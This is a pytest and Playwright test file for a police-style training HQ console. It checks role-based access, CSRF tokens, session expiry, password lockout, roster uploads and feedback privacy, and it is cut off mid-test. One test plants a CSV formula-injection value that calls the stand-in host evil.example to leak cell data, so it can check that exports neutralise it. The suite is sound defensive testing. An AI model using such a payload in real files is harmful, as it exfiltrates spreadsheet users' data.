"""HQ's console in a real browser (Debian's chromium, driven by Playwright) against a real HQ process: each
role signs in and sees what it may, a BCU training lead only their unit in every page and download, and the
security around it (CSRF, expiry, wrong passwords, every route checked)."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import uuid as uuid_module
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import itsdangerous
import pytest
import requests
from fastapi.routing import APIRoute
from playwright.sync_api import Page, expect
from pypdf import PdfReader

from tests.dates import ahead
from tests.hq.console_kit import FORCE, PASSWORD, admin, plan_a_session, said_at, sign_in
from tests.hq.raw_laptop import RawLaptop, attendance, item, session
from tests.hq_server import Hq
from trainer_desk.core.people import Person, PersonRole
from trainer_desk.hq import content as hq_content
from trainer_desk.hq import planning as hq_planning
from trainer_desk.hq import roster as hq_roster
from trainer_desk.hq.cli import main as hq_main
from trainer_desk.hq.console.app import PUBLIC, console_app
from trainer_desk.hq.database import utc_now
from trainer_desk.paths import bundled
from trainer_desk.sync.protocol import PROTOCOL_HEADER, PROTOCOL_VERSION


def test_the_learning_team_follows_the_dashboard_to_a_unit_a_session_and_its_chase_list(
    page: Page, hq: Hq, force: dict[str, str], tmp_path: Path
) -> None:
    sign_in(page, hq, "hq.admin")
    expect(page.get_by_role("heading", name="Completion against the roster")).to_be_visible()
    icon = page.request.get(hq.url + str(page.locator("link[rel=icon]").get_attribute("href")))
    assert icon.status == 200 and icon.headers["content-type"] == "image/png"  # the tab shows Trainer Desk's
    figures = page.get_by_role("table", name="Completion per unit and programme")
    expect(figures.get_by_role("row")).to_have_count(3)  # the header, North and East
    expect(figures.get_by_role("row", name="NORTH")).to_contain_text("1 3")  # one of three on the roster
    expect(figures.get_by_role("img", name="33% complete")).to_be_visible()

    figures.get_by_role("link", name="NORTH").click()
    chase = page.get_by_role("table", name="Outstanding in NORTH")
    expect(chase).to_contain_text("Rhys ap Gwilym")
    expect(chase).to_contain_text("Nguyễn Thị Lan")
    expect(chase).not_to_contain_text("Wiśniewska")  # she completed it
    with page.expect_download() as download:
        page.get_by_role("link", name="Download this list (CSV)").click()
    saved = tmp_path / "outstanding.csv"
    download.value.save_as(saved)
    with saved.open(encoding="utf-8-sig", newline="") as handle:
        listed = [(r["staff_number"], r["name"], r["unit"], r["role"], r["programme"]) for r in csv.DictReader(handle)]
    assert sorted(listed) == [
        ("710002", "Rhys ap Gwilym", "NORTH", "staff", "signa"),
        ("710003", "Nguyễn Thị Lan", "NORTH", "officer", "signa"),
    ]

    page.get_by_role("link", name="23 Nov 2026 09:00").click()
    register = page.get_by_role("table", name="Register: 1 person")
    expect(register).to_contain_text("Aleksandra Wiśniewska")
    expect(register).to_contain_text("Present")
    page.screenshot(path=str(tmp_path / "session.png"))


def test_a_training_lead_sees_only_their_unit_everywhere(page: Page, hq: Hq, force: dict[str, str]) -> None:
    sign_in(page, hq, "lead.north")
    figures = page.get_by_role("table", name="Completion per unit and programme")
    expect(figures).to_contain_text("NORTH")
    expect(figures).not_to_contain_text("EAST")
    expect(page.get_by_role("table", name="The newest sessions")).not_to_contain_text("EAST")
    for path in (
        "/console/units/EAST",
        "/console/units/EAST/outstanding.csv?programme=signa",
        f"/console/sessions/{force['EAST']}",
    ):
        answer = page.goto(hq.url + path)
        assert answer is not None and answer.status == 404, path
        expect(page.locator("main")).not_to_contain_text("Al-Masri")
    answer = page.goto(hq.url + "/console/audit")
    assert answer is not None and answer.status == 403
    answer = page.goto(hq.url + f"/console/sessions/{force['NORTH']}")
    assert answer is not None and answer.status == 200
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in to the HQ console")).to_be_visible()
    page.goto(hq.url + "/console/units/NORTH")  # signed out: back to signing in
    expect(page.get_by_role("heading", name="Sign in to the HQ console")).to_be_visible()


@pytest.mark.any_database
def test_an_auditor_sees_the_audit_trail_and_nothing_else(page: Page, hq: Hq, force: dict[str, str]) -> None:
    sign_in(page, hq, "lead.north", "not the password at all")
    expect(page.get_by_role("alert")).to_contain_text("do not match")
    sign_in(page, hq, "Tr0ub4dor&3-mine", "enter")  # a password typed into the Username box is not kept
    expect(page.get_by_role("alert")).to_contain_text("do not match")
    sign_in(page, hq, "audit")
    expect(page.get_by_role("heading", name="Audit trail")).to_be_visible()
    trail = page.get_by_role("table")
    expect(trail).to_contain_text("account added")
    expect(trail).not_to_contain_text(PASSWORD)
    expect(trail).not_to_contain_text("Tr0ub4dor")
    expect(trail).not_to_contain_text("sign-in")  # one wrong password is no lockout: not a line of its own
    page.get_by_label("Search").fill("lead.north")
    page.get_by_role("button", name="Search").click()
    expect(trail).to_contain_text("account added")
    expect(trail).not_to_contain_text("audit as auditor")
    answer = page.goto(hq.url + "/console/")
    assert answer is not None and answer.status == 403


def form_token(http: requests.Session, url: str) -> str:
    text = http.get(url + "/console/sign-in", timeout=10).text
    return text.split('name="csrf" value="', 1)[1].split('"', 1)[0]


def test_forms_need_their_token_and_wrong_passwords_are_limited(hq: Hq, force: dict[str, str]) -> None:
    set_cookie = requests.get(hq.url + "/console/sign-in", timeout=10).headers["set-cookie"].lower()
    assert "httponly" in set_cookie and "samesite=strict" in set_cookie and "max-age=28800" in set_cookie
    http = requests.Session()
    token = form_token(http, hq.url)
    answer = http.post(hq.url + "/console/sign-in", data={"username": "hq.admin", "password": PASSWORD}, timeout=10)
    assert answer.status_code == 403  # no token: a page elsewhere cannot sign anyone in, or out
    forged = http.post(
        hq.url + "/console/sign-in",
        data={"username": "hq.admin", "password": PASSWORD, "csrf": "x" * 43},
        timeout=10,
    )
    assert forged.status_code == 403
    signed = http.post(
        hq.url + "/console/sign-in", data={"username": "hq.admin", "password": PASSWORD, "csrf": token}, timeout=10
    )
    assert signed.status_code == 200 and "Completion against the roster" in signed.text
    assert http.post(hq.url + "/console/sign-out", data={}, timeout=10).status_code == 403  # sign-out needs it too

    def endless() -> Iterator[bytes]:  # a stranger's long body, sent in pieces without a declared length
        yield b"username=x&password="
        yield from (b"y" * 65536 for _ in range(16))

    stranger = requests.post(hq.url + "/console/sign-in", data=endless(), timeout=10,
                             headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    assert stranger.status_code == 413  # refused once past a form's length, never held whole

    guesser = requests.Session()
    token = form_token(guesser, hq.url)
    for attempt in range(5):
        wrong = guesser.post(
            hq.url + "/console/sign-in",
            data={"username": "lead.north", "password": f"guess {attempt}", "csrf": token},
            timeout=10,
        )
        assert wrong.status_code == 401
    right = guesser.post(
        hq.url + "/console/sign-in", data={"username": "lead.north", "password": PASSWORD, "csrf": token}, timeout=10
    )
    assert right.status_code == 429 and "Too many wrong passwords for this account" in right.text

    # A colleague behind the same address (a station's proxy) is not locked out by one person's typos.
    colleague = requests.Session()
    signed = colleague.post(
        hq.url + "/console/sign-in",
        data={"username": "hq.viewer", "password": PASSWORD, "csrf": form_token(colleague, hq.url)},
        timeout=10,
    )
    assert signed.status_code == 200 and "Sign out" in signed.text
    # "Ask an HQ administrator": the password they reset works at once.
    accounts = http.get(hq.url + "/console/accounts", timeout=10).text
    own_token = accounts.split('name="csrf" value="', 1)[1].split('"', 1)[0]
    reset = http.post(hq.url + "/console/accounts/lead.north/reset", data={"csrf": own_token}, timeout=10)
    new_password = reset.text.split('<p class="code">', 1)[1].split("<", 1)[0]
    back = guesser.post(
        hq.url + "/console/sign-in",
        data={"username": "lead.north", "password": new_password, "csrf": form_token(guesser, hq.url)},
        timeout=10,
    )
    assert back.status_code == 200 and "Sign out" in back.text
    # A confirmation is the console's own: one written into a link is not shown as if it were.
    spoof = http.get(hq.url + "/console/roster?done=Your+session+has+expired.+Call+0800+123+456", timeout=10)
    assert spoof.status_code == 200 and "0800" not in spoof.text


def test_a_session_ends_when_it_is_old_idle_or_its_password_is_reset(
    hq: Hq, force: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    http = requests.Session()
    token = form_token(http, hq.url)
    http.post(hq.url + "/console/sign-in", data={"username": "hq.admin", "password": PASSWORD, "csrf": token})
    assert "Completion against the roster" in http.get(hq.url + "/console/", timeout=10).text
    signed_in = http.cookies["trainer_desk_console"]

    # The same session made nine hours old, signed with HQ's own key as the console signs it: refused.
    secret = (hq.blobs.parent / "console.key").read_text().strip()
    signer = itsdangerous.TimestampSigner(secret)
    content = json.loads(base64.b64decode(signer.unsign(signed_in.encode())))
    old = (utc_now() - timedelta(hours=9)).isoformat()
    stale = signer.sign(base64.b64encode(json.dumps({**content, "since": old}).encode())).decode()
    answer = requests.get(hq.url + "/console/", cookies={"trainer_desk_console": stale}, timeout=10)
    assert "Sign in to the HQ console" in answer.text
    idle = signer.sign(base64.b64encode(json.dumps({**content, "seen": old}).encode())).decode()
    answer = requests.get(hq.url + "/console/", cookies={"trainer_desk_console": idle}, timeout=10)
    assert "Sign in to the HQ console" in answer.text

    monkeypatch.setattr("sys.stdin", io.StringIO("a new password, long enough\n"))
    assert hq_main([*admin(hq), "users", "reset", "hq.admin"]) == 0
    assert "Sign in to the HQ console" in http.get(hq.url + "/console/", timeout=10).text


def test_every_route_but_signing_in_checks_the_role(tmp_path: Path) -> None:
    """Walk the console's routing table: a route added without `allowed(...)` fails here."""
    app = console_app(engine=None, secret="test", secure_cookies=True, home=tmp_path)  # type: ignore[arg-type]
    unchecked = []
    for route in app.routes:
        if not isinstance(route, APIRoute) or any(route.path.startswith(p) for p in PUBLIC):
            continue
        if not any(getattr(d.call, "checks_role", False) for d in route.dependant.dependencies):
            unchecked.append(route.path)
    assert unchecked == []
    assert len([r for r in app.routes if isinstance(r, APIRoute)]) >= 7


@pytest.mark.any_database
def test_every_form_refuses_a_post_without_its_token(hq: Hq, force: dict[str, str], tmp_path: Path) -> None:
    """Walk the routing table: every POST route, as a signed-in administrator, refuses a post with no CSRF token
    or another session's before doing anything (the audit trail stays as it was)."""
    app = console_app(engine=None, secret="test", secure_cookies=True, home=tmp_path)  # type: ignore[arg-type]
    posts = [r.path for r in app.routes if isinstance(r, APIRoute) and "POST" in r.methods]
    assert len(posts) >= 8
    http = requests.Session()
    token = form_token(http, hq.url)
    signed = http.post(
        hq.url + "/console/sign-in", data={"username": "hq.admin", "password": PASSWORD, "csrf": token}, timeout=10
    )
    assert signed.status_code == 200
    before = http.get(hq.url + "/console/audit", timeout=10).text.count("<tr>")
    other_session_token = form_token(requests.Session(), hq.url)
    for path in posts:
        url = hq.url + "/console" + path.replace("{device_id}", "x" * 36).replace("{registration}", "x" * 36)
        for sent in ({}, {"csrf": other_session_token}):
            answer = http.post(url, data={**sent, "version": "1", "flag": "lost"}, timeout=10)
            assert answer.status_code == 403, (path, sent)
    assert http.get(hq.url + "/console/audit", timeout=10).text.count("<tr>") == before


def test_an_administrator_issues_a_code_marks_a_device_lost_and_matches_a_walk_in_then_puts_it_right(
    page: Page, hq: Hq, force: dict[str, str], tmp_path: Path
) -> None:
    north = session("NORTH", ("100234",))
    typo = {**attendance(north, "71OOO2"), "walk_in": True, "walk_in_name": "Rhys ap Gwilym"}
    assert (
        RawLaptop.enrolled(hq, "100234", "NORTH").push(item("session", north), item("attendance", typo))
        == [("created", "")] * 2
    )
    sign_in(page, hq, "hq.admin")

    page.get_by_role("link", name="Enrollment codes").click()
    unit = page.get_by_label("Unit the laptop records for")
    expect(unit).to_have_value("")  # not the first unit listed: the trainer's own, from the roster
    page.get_by_label("Trainer's staff number").fill("100800")  # a number nobody on HQ's roster has
    unit.select_option("NORTH")
    page.get_by_label("Laptop of").select_option("training_lead")
    page.get_by_role("button", name="Issue a code").click()
    expect(page.get_by_role("alert")).to_contain_text("100800 is not on the roster of this unit's force")
    expect(unit).to_have_value("NORTH")  # what was chosen is kept, to correct only the number
    expect(page.get_by_label("Laptop of")).to_have_value("training_lead")
    page.get_by_label("Trainer's staff number").fill("710001")
    page.get_by_role("button", name="Issue a code").click()
    # The person by name, and the role in words, not "Code for 710001 (training_lead, NORTH)".
    expect(
        page.get_by_role("heading", name="Code for Aleksandra Wiśniewska (710001), BCU training lead, NORTH")
    ).to_be_visible()
    code = page.get_by_label("Enrollment code").inner_text().strip()
    enrolled = requests.post(
        hq.url + "/v1/enroll",
        json={"code": code, "device_name": "Lead's laptop"},
        headers={PROTOCOL_HEADER: str(PROTOCOL_VERSION)},
        timeout=10,
    )
    assert enrolled.status_code == 200, enrolled.text

    page.get_by_role("link", name="Devices", exact=True).click()
    devices_table = page.get_by_role("table")
    lead_s = devices_table.get_by_role("row", name="Lead's laptop")
    expect(lead_s).to_contain_text("Aleksandra Wiśniewska (710001)")
    expect(lead_s).to_contain_text("BCU training lead")
    expect(lead_s).not_to_contain_text("training_lead")
    page.get_by_role("button", name="Report Lead's laptop lost").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Mark the laptop of Aleksandra Wiśniewska (710001) lost?")
    expect(page.get_by_role("table", name="The device")).to_contain_text("BCU training lead")
    page.get_by_role("button", name="Yes, mark it lost").click()
    expect(page.get_by_role("status")).to_contain_text("marked lost")
    expect(devices_table.get_by_role("row", name="Lead's laptop")).to_contain_text("lost")

    page.get_by_role("link", name="Walk-ins").click()
    open_ones = page.get_by_role("table", name="Walk-ins that match nobody")
    expect(open_ones).to_contain_text("71OOO2")
    expect(page.get_by_role("main")).to_contain_text("This one matches nobody yet")  # one, said as one
    page.get_by_label("Staff number of Rhys ap Gwilym").fill("710002")
    page.get_by_role("button", name="Match Rhys ap Gwilym").click()
    page.get_by_role("button", name="Confirm: it was Rhys ap Gwilym").click()
    expect(page.get_by_role("status")).to_contain_text("Walk-in Rhys ap Gwilym matched to 710002, Rhys ap Gwilym.")
    expect(open_ones).not_to_contain_text("71OOO2")
    expect(page.get_by_role("main")).to_contain_text("None is left to look into.")
    resolved = page.get_by_role("table", name="Walk-ins resolved at HQ, newest decision first")
    expect(resolved.get_by_role("row", name="Rhys ap Gwilym")).to_contain_text(
        "matched to 710002 at HQ: Rhys ap Gwilym"
    )
    page.get_by_role("link", name="Dashboard").click()
    figures = page.get_by_role("table", name="Completion per unit and programme")
    expect(figures.get_by_role("row", name="NORTH")).to_contain_text("2 3")  # Rhys now counts

    page.goto(f"{hq.url}/console/sessions/{north['uuid']}")  # the session's register says why Rhys counts
    register = page.get_by_role("table", name=re.compile("^Register"))
    expect(register.get_by_role("row", name="71OOO2")).to_contain_text("yes, matched to 710002 at HQ: Rhys ap Gwilym")
    with page.expect_download() as download:  # and its printed sheet says the same, not "to be reconciled"
        page.get_by_role("link", name="Attendance sheet (PDF)").click()
    printed = tmp_path / "sheet.pdf"
    download.value.save_as(printed)
    flat = " ".join(" ".join(p.extract_text() for p in PdfReader(printed).pages).split())
    assert "1 walk-in in all: 1 counts for someone on the roster, 0 dismissed at HQ, 0 still to be" in flat
    assert "reconciled" not in flat
    page.get_by_role("link", name="Walk-ins").click()  # it was a visitor of the same name: put right
    resolved.get_by_label("Why Rhys ap Gwilym credits nobody").fill("a visitor from another force")
    resolved.get_by_role("button", name="Dismiss Rhys ap Gwilym again").click()
    expect(page.get_by_role("status")).to_contain_text("dismissed")
    expect(resolved.get_by_role("row", name="Rhys ap Gwilym")).to_contain_text(
        "dismissed: a visitor from another force"
    )
    page.get_by_role("link", name="Dashboard").click()
    expect(figures.get_by_role("row", name="NORTH")).to_contain_text("1 3")
    page.get_by_role("link", name="Walk-ins").click()  # matched to someone of another name: said, to be checked
    resolved.get_by_label("Staff number of Rhys ap Gwilym").fill("710001")
    resolved.get_by_role("button", name="Match Rhys ap Gwilym again").click()
    page.get_by_role("button", name="Confirm: it was Aleksandra Wiśniewska").click()
    expect(page.get_by_role("status")).to_contain_text(
        "Walk-in Rhys ap Gwilym matched to 710001, Aleksandra Wiśniewska: the names differ, so check it is the same"
    )

    page.get_by_role("link", name="Audit trail").click()
    expect(page.get_by_role("table")).to_contain_text("enrollment code")
    expect(page.get_by_role("table")).not_to_contain_text(code)  # the code itself is never kept


def test_a_lead_sees_their_units_devices_and_administers_nothing(page: Page, hq: Hq, force: dict[str, str]) -> None:
    sign_in(page, hq, "lead.north")
    page.get_by_role("link", name="Devices", exact=True).click()
    table = page.get_by_role("table")
    expect(table).to_contain_text("100234")
    expect(table).not_to_contain_text("100300")  # East's laptop
    expect(page.get_by_role("button", name="Revoke")).to_have_count(0)
    for path in ("/console/enrollment", "/console/walk-ins"):
        answer = page.goto(hq.url + path)
        assert answer is not None and answer.status == 403, path


def excel_roster(folder: Path, name: str, lines: list[str]) -> Path:
    """As Excel's 'Unicode Text' saves it: UTF-16 with a byte-order mark, tab-separated, CRLF."""
    path = folder / name
    path.write_bytes("\r\n".join(["Staff Number\tFirst Name\tLast Name\tUnit\tType", *lines]).encode("utf-16"))
    return path


def test_an_administrator_uploads_a_roster_sees_what_it_would_change_and_applies_it(
    page: Page, hq: Hq, force: dict[str, str], tmp_path: Path
) -> None:
    sign_in(page, hq, "hq.admin")
    page.get_by_role("link", name="Roster").click()

    broken = excel_roster(
        tmp_path, "broken.csv", ["710001\tAleksandra\tWiśniewska\tNORTH\tofficer", "710009\tSiân\tEvans\tMOON\tstaff"]
    )
    page.get_by_label("Roster file").set_input_files(str(broken))
    page.get_by_role("button", name="Preview").click()
    expect(page.get_by_role("alert")).to_contain_text("nothing can be imported")
    expect(page.get_by_role("alert").get_by_role("list")).to_contain_text(
        """row 3, column D "Unit": 'MOON' is not a known unit"""  # the column as Excel shows the upload
    )
    said_at(  # said at the file to mend, with the row: a screen reader hears which when the field is reached
        page.get_by_label("Roster file"),
        re.compile(r"^broken\.csv: nothing can be imported\.\s+row 3, column D \"Unit\": 'MOON' is not a known unit"),
    )

    damaged = tmp_path / "HR export (damaged).xlsx"  # a download cut short: a zip's start, nothing more
    damaged.write_bytes(b"PK\x03\x04" + bytes(200))
    page.get_by_label("Roster file").set_input_files(str(damaged))
    page.get_by_role("button", name="Preview").click()
    said_at(
        page.get_by_label("Roster file"), re.compile(r"^HR export \(damaged\)\.xlsx: not a readable Excel workbook")
    )
    expect(page.get_by_role("alert")).not_to_contain_text("uploads")  # where HQ keeps files is not the user's business

    lines = [
        "710001\tAleksandra\tWiśniewska\tNORTH\tofficer",
        "710002\tRhys\tap Gwilym\tEAST\tstaff",  # moved to East
        "710003\tNguyễn\tThị Lan\tNORTH\tofficer",
        "720001\tYusuf\tAl-Masri\tEAST\tstaff",
        "730001\tFfion\tLlywelyn\tNORTH\tofficer",  # joined
    ]  # 王秀英 has left
    page.get_by_label("Roster file").set_input_files(str(excel_roster(tmp_path, "hr-export.csv", lines)))
    page.get_by_role("button", name="Preview").click()
    preview = page.get_by_role("table", name="Preview")
    for label, count in (("Added", "1"), ("Updated", "2"), ("Left (kept, marked as left)", "1"), ("Unchanged", "2")):
        # Updated: Rhys moved, and Aleksandra's team is not in this export.
        expect(preview.get_by_role("row", name=label).get_by_role("cell")).to_have_text(count)
    assert hq_roster.roster_sizes(hq.engine) == {"NORTH": 3, "EAST": 2}  # nothing applied yet
    page.get_by_text("Who would be marked as left (1)").click()  # who, not only how many, before applying
    expect(page.get_by_role("list", name="Who would be marked as left")).to_have_text("720002 王秀英, East")
    page.get_by_text("Whose details would change (2)").click()
    expect(page.get_by_role("list", name="Whose details would change")).to_contain_text(
        "Rhys ap Gwilym, East (was North)"
    )
    page.get_by_role("button", name="Apply this roster").click()
    expect(page.get_by_role("status")).to_contain_text("Roster imported: 1 added, 2 updated, 1 left")
    assert hq_roster.roster_sizes(hq.engine) == {"NORTH": 3, "EAST": 2}
    assert not list((hq.blobs.parent / "uploads").iterdir())  # the upload is gone once applied

    # Most of the force gone at once is asked about before it is applied.
    page.get_by_label("Roster file").set_input_files(str(excel_roster(tmp_path, "one.csv", lines[:1])))
    page.get_by_role("button", name="Preview").click()
    expect(page.locator("main")).to_contain_text("4 of the 5 people on the roster (80%) would be marked as left")
    leaving = page.get_by_role("list", name="Who would be marked as left")
    expect(leaving.get_by_role("listitem")).to_have_count(4)  # opened: these are the people the box is about
    page.get_by_role("button", name="Apply this roster").click()
    said_at(
        page.get_by_label("Yes, this many people have left"),
        "Not applied: tick the box to say this many people have left, then apply it again.",
    )
    assert hq_roster.roster_sizes(hq.engine) == {"NORTH": 3, "EAST": 2}
    page.get_by_label("Yes, this many people have left").check()  # the same upload: nothing to choose again
    page.get_by_role("button", name="Apply this roster").click()
    expect(page.get_by_role("status")).to_contain_text("Roster imported: 0 added, 0 updated, 4 left")
    assert not list((hq.blobs.parent / "uploads").iterdir())


def test_a_lead_plans_a_session_for_their_unit_with_the_people_expected(
    page: Page, hq: Hq, force: dict[str, str]
) -> None:
    hq_content.publish_content(hq.engine, bundled("lesson_plans"), hq.blobs, allow_sample_media=True)
    sign_in(page, hq, "lead.north")
    page.get_by_role("link", name="Plan a session").click()
    options = page.get_by_label("Unit").locator("option")
    expect(options).to_have_text(["the first trainer's if it is one of yours, else North", "North"])  # theirs alone
    page.get_by_label("Lesson plan").select_option("upstander")
    page.get_by_label("Starts").fill(f"{ahead(60)}T09:30")
    page.get_by_label("Venue").fill("Training room 3, Northgate")
    page.get_by_label("Trainers' staff numbers (the first leads)").fill("710001")
    page.get_by_label("People expected: a staff number a line, or separated by commas").fill("710002\n799999")
    page.get_by_role("button", name="Plan the session").click()
    expect(page.get_by_role("alert")).to_contain_text("799999")  # not on the roster: nothing planned
    expect(page.get_by_label("Venue")).to_have_value("Training room 3, Northgate")  # nothing typed is lost
    page.get_by_label("People expected: a staff number a line, or separated by commas").fill("710002\n710003")
    page.get_by_role("button", name="Plan the session").click()
    register = page.get_by_role("table", name="Register: 2 people")
    expect(register).to_contain_text("Rhys ap Gwilym")
    expect(register).to_contain_text("Nguyễn Thị Lan")
    expect(register).to_contain_text("Booked")  # not yet come, as it has not happened: not "absent"
    expect(register).not_to_contain_text("bsent")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Upstander: stepping in when it matters")

    # The same form sent again (the lead is not sure it went), a start a year gone by, and one years ahead (a
    # year mistyped): each refused, saying why, with what was typed still there. HQ holds one session.
    page.get_by_role("link", name="Plan a session").click()
    for starts, said in ((f"{ahead(60)}T09:30", "Already planned"),
                         (f"{ahead(60).replace(year=ahead(60).year - 1)}T09:30", "already gone by"),
                         (f"{ahead(60).replace(year=ahead(60).year + 4)}T09:30", "more than a year away")):  # fmt: skip
        plan_a_session(page, starts, venue="training room 3,  Northgate")
        expect(page.get_by_role("alert")).to_contain_text(said)
        expect(page.get_by_label("Starts")).to_have_value(starts)
    assert [s["plan_id"] for s in hq_planning.list_sessions(hq.engine)].count("upstander") == 1


def form(session_payload: dict[str, object], recommend: bool, reason: str = "") -> dict[str, object]:
    return {
        "uuid": str(uuid_module.uuid4()),
        "session_uuid": session_payload["uuid"],
        "would_recommend": recommend,
        "reason_not": reason,
        "ratings": [{"objective_id": "impact", "before": 2, "after": 4}],
    }


def test_feedback_figures_hide_small_numbers_and_reasons_stay_with_hq(
    page: Page, hq: Hq, force: dict[str, str]
) -> None:
    north = RawLaptop.enrolled(hq, "100234", "NORTH")
    big, small = session("NORTH", ("100234",)), session("NORTH", ("100234",))
    forms = [form(big, True) for _ in range(5)] + [form(big, False, "Too long for a night shift")]
    forms += [form(small, True), form(small, False, "I was the only sergeant there")]
    items = [item("session", big), item("session", small), *(item("feedback", f) for f in forms)]
    assert {s for s, _ in north.push(*items)} == {"created"}
    east = session("EAST", ("100300",))
    assert {s for s, _ in RawLaptop.enrolled(hq, "100300", "EAST").push(
        item("session", east), *(item("feedback", form(east, True)) for _ in range(6))
    )} == {"created"}  # fmt: skip

    sign_in(page, hq, "hq.admin")
    page.get_by_role("link", name="Feedback").click()
    main = page.locator("main")
    expect(main).to_contain_text("signa: 14 forms")
    expect(main).to_contain_text("Would recommend it: 86% (12 yes, 2 no)")
    expect(page.get_by_role("table", name="Understanding, 1 to 5, before and after (signa)")).to_contain_text("2.0")
    expect(main).to_contain_text("Too long for a night shift")
    expect(main).not_to_contain_text("I was the only sergeant there")  # from a session of two: never shown
    page.get_by_role("button", name="Sign out").click()

    sign_in(page, hq, "lead.north")
    page.get_by_role("link", name="Feedback").click()
    expect(main).to_contain_text("signa: 8 forms")
    expect(main).to_contain_text("Would recommend it: 75% (6 yes, 2 no)")
    expect(main).not_to_contain_text("Too long for a night shift")  # free text is for HQ's roles only
    expect(main).to_contain_text("is read by HQ's learning team only")  # said, so "2 no" is not a dead end
    expect(main).to_contain_text("From the feedback forms of sessions in North.")  # their unit by its name


def test_trainers_who_have_not_delivered_for_six_months_are_flagged(page: Page, hq: Hq, force: dict[str, str]) -> None:
    then = (utc_now() - timedelta(days=280)).replace(hour=9, minute=0, second=0, microsecond=0)
    long_ago = {
        **session("NORTH", ("100555", "100234")),
        "status": "closed",
        "starts_at": then.isoformat(),
        "ends_at": (then + timedelta(hours=3)).isoformat(),
    }
    lately = {**session("NORTH", ("100234",)), "starts_at": (utc_now() - timedelta(days=10)).isoformat()}
    planned = {**session("NORTH", ("100777",)), "status": "planned"}
    assert {s for s, _ in RawLaptop.enrolled(hq, "100234", "NORTH").push(
        item("session", long_ago), item("session", lately), item("session", planned)
    )} == {"created"}  # fmt: skip
    sign_in(page, hq, "lead.north")
    page.get_by_role("link", name="Trainers", exact=True).click()
    table = page.get_by_role("table", name="Trainers' sessions and hours")
    expect(table.get_by_role("row", name="100555")).to_contain_text("not delivered for six months")
    expect(table.get_by_role("row", name="100555")).to_contain_text("3.0")  # three hours
    expect(table.get_by_role("row", name="100234")).not_to_contain_text("six months")  # delivered ten days ago
    sessions_cell = table.get_by_role("row", name="100234").get_by_role("cell").nth(1)  # after the staff number
    expect(sessions_cell).to_have_text("3")  # the one long ago, the fixture's and the recent one
    expect(table).not_to_contain_text("100777")  # only planned, never delivered
    expect(table).not_to_contain_text("100300")  # East's trainer


@pytest.mark.any_database
def test_a_chase_list_download_cannot_run_a_formula_in_a_spreadsheet(
    page: Page, hq: Hq, force: dict[str, str], tmp_path: Path
) -> None:
    """A roster is HR's file: a name cell such as =HYPERLINK(...) must reach a lead's spreadsheet as text."""
    planted = Person("710009", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)", "NORTH", PersonRole.STAFF)
    hq_roster.import_roster(hq.engine, [*FORCE, planted])
    sign_in(page, hq, "lead.north")
    page.goto(hq.url + "/console/units/NORTH?programme=signa")
    with page.expect_download() as download:
        page.get_by_role("link", name="Download this list (CSV)").click()
    saved = tmp_path / "outstanding.csv"
    download.value.save_as(saved)
    with saved.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row[0]: row for row in csv.reader(handle)}
    assert rows["710009"][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click") @SUM(1+1)'
    assert rows["710002"][1] == "Rhys ap Gwilym"  # ordinary names are left as they are


@pytest.mark.any_database
def test_signing_out_ends_the_session_even_for_a_copy_of_its_cookie(page: Page, hq: Hq, force: dict[str, str]) -> None:
    """On a shared PC, someone copies the console's cookie before the lead signs out: once the lead has signed
    out, the copy neither downloads the chase list nor plans a session."""
    sign_in(page, hq, "lead.north")
    [cookie] = [c for c in page.context.cookies() if c["name"] == "trainer_desk_console"]
    copy = requests.Session()
    copy.cookies.set(cookie["name"], cookie["value"])
    chase_list = hq.url + "/console/units/NORTH/outstanding.csv"
    assert copy.get(chase_list, timeout=10).status_code == 200  # the copy works while the lead is signed in
    page.get_by_role("link", name="Plan a session").click()
    token = page.locator("input[name=csrf]").first.get_attribute("value")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()

    answer = copy.get(chase_list, timeout=10, allow_redirects=False)
    assert answer.status_code == 303 and "/console/sign-in" in answer.headers["location"]
    assert "Nguyễn" not in answer.text
    plan = copy.post(hq.url + "/console/plan", data={"venue": "Replay room", "csrf": token}, timeout=10)
    assert plan.status_code == 401 and "Your session ended before that reached HQ" in plan.text

    sign_in(page, hq, "lead.north")  # signing in again afterwards works as before
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def test_a_lead_plans_a_session_for_the_people_on_the_chase_list(page: Page, hq: Hq, force: dict[str, str]) -> None:
    """From a unit's chase list to a session with those people booked, without copying staff numbers by hand;
    the plans are listed by their titles."""
    hq_content.publish_content(hq.engine, bundled("lesson_plans"), hq.blobs, allow_sample_media=True)
    sign_in(page, hq, "lead.north")
    page.goto(hq.url + "/console/units/NORTH?programme=upstander")
    chase = page.get_by_role("table", name="Outstanding in NORTH")
    expect(chase.get_by_role("row")).to_have_count(4)  # the header and three people: nobody has done Upstander
    page.get_by_role("link", name="Plan a session for them").click()
    expect(page.get_by_role("status")).to_contain_text("Filled in with the 3 people in NORTH who have not completed it")
    expect(page.get_by_label("Lesson plan")).to_have_value("upstander")
    expect(page.get_by_label("Lesson plan").locator("option:checked")).to_have_text(
        "Upstander: stepping in when it matters"
    )
    expected = page.get_by_label("People expected: a staff number a line, or separated by commas")
    expect(expected).not_to_have_value("")
    lines = expected.input_value().split("\n")  # each with their name, to see whom the lead keeps
    assert sorted(line.split()[0] for line in lines) == ["710001", "710002", "710003"]
    assert "710002  Rhys ap Gwilym" in lines
    expected.fill("\n".join(line for line in lines if not line.startswith("710001")))  # names and all
    page.get_by_label("Starts").fill(f"{ahead(30)}T09:30")
    page.get_by_label("Venue").fill("Training room 3, Northgate")
    page.get_by_label("Trainers' staff numbers (the first leads)").fill("710001")
    page.get_by_role("button", name="Plan the session").click()
    register = page.get_by_role("table", name="Register: 2 people")
    expect(register).to_contain_text("Rhys ap Gwilym")
    expect(register).to_contain_text("Nguyễn Thị Lan")

    # Planned from the chase list again: those now booked are not filled in a second time.
    page.goto(hq.url + "/console/units/NORTH?programme=upstander")
    page.get_by_role("link", name="Plan a session for them").click()
    expect(page.get_by_role("status")).to_contain_text(
